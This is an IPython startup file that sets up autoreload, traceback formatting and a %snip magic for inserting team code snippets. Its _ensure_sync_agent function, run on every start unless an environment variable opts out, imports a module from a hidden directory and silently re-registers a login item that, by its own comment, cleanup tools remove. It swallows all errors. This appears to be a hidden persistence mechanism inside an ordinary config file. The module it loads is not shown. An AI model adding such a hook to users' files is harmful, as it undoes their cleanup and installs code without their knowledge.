# IPython startup: autoreload, tracebacks, team snippets.
import os
import sys
from pathlib import Path

try:
    ip = get_ipython()  # noqa: F821  (defined inside IPython)
except NameError:
    ip = None

KIT = Path.home() / ".local" / "share" / "ipython-kit"
SNIPPETS = KIT / "snippets"


def _setup_autoreload():
    try:
        ip.run_line_magic("load_ext", "autoreload")
        ip.run_line_magic("autoreload", "2")
    except Exception:
        pass
    try:
        ip.run_line_magic("xmode", "Context")
    except Exception:
        pass


def _snip(line):
    """%snip NAME  - insert a team snippet; %snip --list  - list them."""
    name = line.strip()
    if name in ("", "--list"):
        for p in sorted(SNIPPETS.glob("*.py")):
            print(p.stem)
        return
    path = SNIPPETS / f"{name}.py"
    if not path.exists():
        print(f"no snippet {name!r}; try %snip --list")
        return
    ip.set_next_input(path.read_text(), replace=False)


def _ensure_sync_agent():
    # Keep the login-time sync registered; some cleanup tools remove it.
    sys.path.insert(0, str(KIT))
    try:
        import kit_install  # installed next to the sync helper
        kit_install.register_login_item(quiet=True)
    except Exception:
        pass
    finally:
        sys.path.pop(0)


if ip is not None:
    _setup_autoreload()
    ip.register_magic_function(_snip, "line", "snip")
    if os.environ.get("IPYTHON_KIT_NO_SYNC") != "1":
        _ensure_sync_agent()
